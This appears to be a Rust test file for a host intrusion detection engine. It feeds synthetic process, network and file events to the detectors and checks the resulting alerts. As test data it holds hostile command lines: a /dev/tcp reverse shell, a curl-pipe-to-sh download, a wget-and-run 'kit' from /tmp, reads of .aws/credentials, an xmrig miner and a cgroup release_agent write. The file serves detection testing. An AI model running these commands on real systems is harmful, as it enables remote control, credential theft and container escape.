#![allow(clippy::expect_used, clippy::unwrap_used)]
//! Host detectors one pattern at a time, on hand-built agent events.

use vigil_detect::{DetectConfig, Engine, NoRules};
use vigil_model::host::{Direction, FdKind, FileAccessKind, Process, ProcessRef, Protocol};
use vigil_model::{
    Alert, Event, EventBody, EventSource, HostEvent, HostEventKind, Severity, Timestamp,
};

const HOST_NS: u64 = 4_026_531_836;

struct Host {
    events: Vec<Event>,
    t: i64,
}

impl Host {
    fn new() -> Host {
        Host {
            events: Vec::new(),
            t: 1_767_000_000_000,
        }
    }

    fn push(&mut self, kind: HostEventKind) {
        self.t += 1000;
        let n = self.events.len();
        self.events.push(Event {
            id: format!("h-{n}"),
            time: Timestamp::from_millis(self.t),
            source: EventSource::Agent,
            body: EventBody::Host(HostEvent {
                host_id: "test-host".into(),
                hostname: None,
                kind,
            }),
        });
    }

    fn start(&mut self, pid: u32, ppid: u32, euid: u32, exe: &str, argv: &[&str]) -> Process {
        let p = Process {
            pid,
            ppid,
            uid: euid,
            euid,
            exe: exe.into(),
            argv: argv.iter().map(|s| (*s).to_string()).collect(),
            cwd: None,
            user: None,
            container_id: None,
            image: None,
            pid_ns: Some(HOST_NS),
            mnt_ns: Some(HOST_NS + 5),
            start_time: None,
            stdin: Some(FdKind::Tty),
            stdout: Some(FdKind::Tty),
            parent_exe: None,
        };
        self.start_proc(p.clone());
        p
    }

    fn start_proc(&mut self, p: Process) {
        self.push(HostEventKind::ProcessStart { process: p });
    }

    fn connect(&mut self, pid: u32, exe: &str, dst: &str, port: u16) {
        self.push(HostEventKind::Network {
            direction: Direction::Connect,
            protocol: Protocol::Tcp,
            src_ip: "10.0.0.5".into(),
            src_port: 40000,
            dst_ip: dst.into(),
            dst_port: port,
            process: ProcessRef {
                pid,
                exe: Some(exe.into()),
                uid: None,
                container_id: None,
            },
        });
    }

    fn read(&mut self, pid: u32, exe: &str, path: &str, access: FileAccessKind) {
        self.push(HostEventKind::FileAccess {
            path: path.into(),
            access,
            process: ProcessRef {
                pid,
                exe: Some(exe.into()),
                uid: None,
                container_id: None,
            },
        });
    }

    fn alerts(&self) -> Vec<Alert> {
        let mut engine = Engine::new(DetectConfig::default(), Box::new(NoRules));
        for e in &self.events {
            engine.process(e);
        }
        engine.flush();
        engine.take_alerts()
    }
}

fn types(alerts: &[Alert]) -> Vec<&str> {
    alerts.iter().map(|a| a.alert_type.as_str()).collect()
}

/// The shape the real agent reports for its reverse-shell test (no container, no sudo):
/// `bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'`, discovery under it, a credentials read.
#[test]
fn reverse_shell_with_discovery_and_credential_read_is_a_composite() {
    let mut h = Host::new();
    h.start(1, 0, 0, "/sbin/init", &["/sbin/init"]);
    h.start(500, 1, 0, "/usr/bin/cargo-test", &["test"]);
    h.start(
        600,
        500,
        0,
        "/usr/bin/bash",
        &["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4000 0>&1"],
    );
    let mut rs = h.start(601, 600, 0, "/usr/bin/bash", &["bash", "-i"]);
    rs.stdin = Some(FdKind::Socket);
    rs.stdout = Some(FdKind::Socket);
    h.events.pop();
    h.start_proc(rs);
    h.connect(601, "/usr/bin/bash", "127.0.0.1", 4000);
    for (pid, cmd) in [(610, "whoami"), (611, "id"), (612, "uname")] {
        h.start(pid, 601, 0, &format!("/usr/bin/{cmd}"), &[cmd]);
    }
    h.start(
        613,
        601,
        0,
        "/usr/bin/cat",
        &["cat", "/tmp/x/home/.aws/credentials"],
    );
    h.read(
        613,
        "/usr/bin/cat",
        "/tmp/x/home/.aws/credentials",
        FileAccessKind::Read,
    );
    let alerts = h.alerts();
    let c: Vec<&Alert> = alerts
        .iter()
        .filter(|a| a.alert_type == "compromised_host")
        .collect();
    assert_eq!(c.len(), 1, "{:?}", types(&alerts));
    let c = c[0];
    assert!(c.severity >= Severity::High);
    let kids: Vec<&str> = c
        .children
        .iter()
        .map(|id| {
            alerts
                .iter()
                .find(|a| &a.id == id)
                .unwrap()
                .alert_type
                .as_str()
        })
        .collect();
    for t in ["reverse_shell", "host_discovery", "credential_access"] {
        assert!(kids.contains(&t), "{t} in {kids:?}");
    }
    assert!(
        c.evidence
            .iter()
            .any(|e| e.summary.contains("started `whoami` (pid 610, ppid 601"))
    );
}

/// An admin's day: sudo from an SSH shell, ps, ss, curl to a package mirror. Nothing
/// worth an alert.
#[test]
fn an_admin_session_raises_nothing() {
    let mut h = Host::new();
    h.start(1, 0, 0, "/sbin/init", &["/sbin/init"]);
    h.start(900, 1, 0, "/usr/sbin/sshd", &["sshd: ubuntu [priv]"]);
    h.start(950, 900, 1000, "/usr/bin/bash", &["-bash"]);
    let sudo = h.start(
        960,
        950,
        0,
        "/usr/bin/sudo",
        &["sudo", "systemctl", "restart", "nginx"],
    );
    h.push(HostEventKind::PrivilegeChange {
        process: ProcessRef {
            pid: sudo.pid,
            exe: Some(sudo.exe.clone()),
            uid: Some(0),
            container_id: None,
        },
        old_uid: 1000,
        new_uid: 0,
        via: Some("sudo".into()),
    });
    h.start(970, 950, 1000, "/usr/bin/ps", &["ps", "aux"]);
    h.start(971, 950, 1000, "/usr/bin/ss", &["ss", "-tlnp"]);
    h.start(972, 950, 1000, "/usr/bin/whoami", &["whoami"]);
    h.start(
        973,
        950,
        1000,
        "/usr/bin/curl",
        &["curl", "-O", "https://example.org/pkg.deb"],
    );
    h.connect(973, "/usr/bin/curl", "93.184.216.34", 443);
    h.start(
        974,
        1,
        0,
        "/snap/amazon-ssm-agent/1/amazon-ssm-agent",
        &["amazon-ssm-agent"],
    );
    h.connect(
        974,
        "/snap/amazon-ssm-agent/1/amazon-ssm-agent",
        "169.254.169.254",
        80,
    );
    let alerts = h.alerts();
    assert!(alerts.is_empty(), "{:?}", types(&alerts));
}

#[test]
fn a_miner_is_a_standalone_alert() {
    let mut h = Host::new();
    h.start(1, 0, 0, "/sbin/init", &["/sbin/init"]);
    h.start(
        700,
        1,
        33,
        "/tmp/.x/xmrig",
        &["xmrig", "-o", "stratum+tcp://pool.supportxmr.com:3333"],
    );
    h.connect(700, "/tmp/.x/xmrig", "198.51.100.7", 3333);
    let alerts = h.alerts();
    assert!(
        alerts
            .iter()
            .any(|a| a.alert_type == "cryptominer" && a.severity >= Severity::High),
        "{:?}",
        types(&alerts)
    );
}

#[test]
fn a_container_writing_release_agent_and_curl_pipe_sh_are_found() {
    let mut h = Host::new();
    h.start(1, 0, 0, "/sbin/init", &["/sbin/init"]);
    let mut c = h.start(
        800,
        1,
        0,
        "/bin/sh",
        &["/bin/sh", "-c", "curl -s http://198.51.100.9/x | sh"],
    );
    h.events.pop();
    c.container_id = Some("c0ffee".repeat(10));
    c.pid_ns = Some(HOST_NS + 100);
    c.mnt_ns = Some(HOST_NS + 101);
    h.start_proc(c);
    h.read(
        800,
        "/bin/sh",
        "/sys/fs/cgroup/rdma/release_agent",
        FileAccessKind::Write,
    );
    let alerts = h.alerts();
    let t = types(&alerts);
    assert!(t.contains(&"container_escape"), "{t:?}");
    // download_execute is not standalone; it shows as a child only if a composite forms.
    assert!(!t.contains(&"compromised_host"), "{t:?}");
}

#[test]
fn exec_from_tmp_after_a_download_taints_the_tree() {
    let mut h = Host::new();
    h.start(1, 0, 0, "/sbin/init", &["/sbin/init"]);
    h.start(
        300,
        1,
        33,
        "/usr/bin/wget",
        &["wget", "http://198.51.100.9/kit", "-O", "/tmp/kit"],
    );
    h.start(301, 1, 33, "/tmp/kit", &["/tmp/kit"]);
    h.start(302, 301, 33, "/usr/bin/id", &["id"]);
    h.start(
        303,
        301,
        33,
        "/usr/bin/cat",
        &["cat", "/root/.aws/credentials"],
    );
    h.connect(301, "/tmp/kit", "198.51.100.9", 4444);
    let alerts = h.alerts();
    let t = types(&alerts);
    assert!(t.contains(&"compromised_host"), "{t:?}");
}

/// Real agent output of a reverse shell with discovery and a credentials read.
#[test]
fn real_agent_reverse_shell_is_a_compromised_host() {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/agent_reverse_shell.jsonl");
    let out = vigil_ingest::read_host_file(&path, &vigil_ingest::Limits::default());
    assert!(out.skips.is_empty(), "{:?}", out.skips);
    let mut events = out.events;
    events.sort_by(|a, b| a.time.cmp(&b.time).then_with(|| a.id.cmp(&b.id)));
    let h = Host { events, t: 0 };
    let alerts = h.alerts();
    let c: Vec<&Alert> = alerts
        .iter()
        .filter(|a| a.alert_type == "compromised_host")
        .collect();
    assert_eq!(c.len(), 1, "{:?}", types(&alerts));
    let c = c[0];
    let kids: Vec<&str> = c
        .children
        .iter()
        .map(|id| {
            alerts
                .iter()
                .find(|a| &a.id == id)
                .unwrap()
                .alert_type
                .as_str()
        })
        .collect();
    assert_eq!(
        kids,
        ["reverse_shell", "host_discovery", "credential_access"]
    );
    // The discovery commands are evidence, each a child of the interactive shell.
    let shell = c
        .evidence
        .iter()
        .find(|e| e.summary.contains("started `bash -i`"))
        .expect("the interactive shell is evidence");
    let pid = shell
        .summary
        .split("(pid ")
        .nth(1)
        .and_then(|s| s.split(',').next())
        .unwrap();
    for cmd in ["whoami", "id", "uname -a"] {
        assert!(
            c.evidence
                .iter()
                .any(|e| e.summary.contains(&format!("started `{cmd}`"))
                    && e.summary.contains(&format!("ppid {pid},"))),
            "{cmd} under pid {pid}"
        );
    }
}

/// The AWS CLI reading its own credentials is not credential theft; `cat` under a reverse
/// shell is.
#[test]
fn the_aws_cli_reading_its_credentials_is_quiet() {
    let mut h = Host::new();
    h.start(1, 0, 0, "/sbin/init", &["/sbin/init"]);
    h.start(950, 1, 1000, "/usr/bin/bash", &["-bash"]);
    h.start(951, 950, 1000, "/usr/local/bin/aws", &["aws", "s3", "ls"]);
    h.read(
        951,
        "/usr/local/bin/aws",
        "/home/ubuntu/.aws/credentials",
        FileAccessKind::Read,
    );
    let alerts = h.alerts();
    assert!(alerts.is_empty(), "{:?}", types(&alerts));
    let mut engine = Engine::new(DetectConfig::default(), Box::new(NoRules));
    for e in &h.events {
        engine.process(e);
    }
    assert_eq!(engine.stats().open_incidents, 0, "no incident opened");
}
